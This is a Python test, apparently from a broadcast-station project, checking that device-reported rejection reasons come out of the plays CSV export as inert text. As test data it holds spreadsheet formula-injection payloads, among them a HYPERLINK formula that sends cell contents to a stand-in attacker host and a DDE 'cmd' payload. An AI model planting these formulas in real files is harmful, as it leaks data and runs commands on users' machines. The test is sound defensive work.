"""Device-supplied values come out of the plays CSV as text, never as live spreadsheet formulas."""

from __future__ import annotations

import csv
import io

from broadcast import protocol, reports
from tests.api.conftest import Api

FORMULA = '=HYPERLINK("http://attacker.example/?d="&A1,"Bấm để xem")'


def test_a_rejection_reason_reported_by_a_device_is_neutralised_in_the_plays_csv(api: Api) -> None:
    # The agent's real wire format, through the station's real ingest path (as the MQTT callback does).
    for reason in (FORMULA, "+1+cmd|' /C calc'!A0", "@SUM(1)", "-1+1"):
        message = protocol.CommandRejected("loa-1", f"c-{len(reason)}", reason)
        reports.ingest(
            api.station.db, protocol.device_event_topic("loa-1"), protocol.encode_agent_message(message)
        )
    exported = api.client.get("/api/plays.csv?outcome=rejected", headers=api.editor)
    assert exported.status_code == 200 and exported.text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(exported.text[1:])))
    reasons = {r[-1] for r in rows[1:]}
    assert reasons == {"'" + FORMULA, "'+1+cmd|' /C calc'!A0", "'@SUM(1)", "'-1+1"}
    assert not any(cell[:1] in "=+-@\t\r" for row in rows for cell in row if cell)
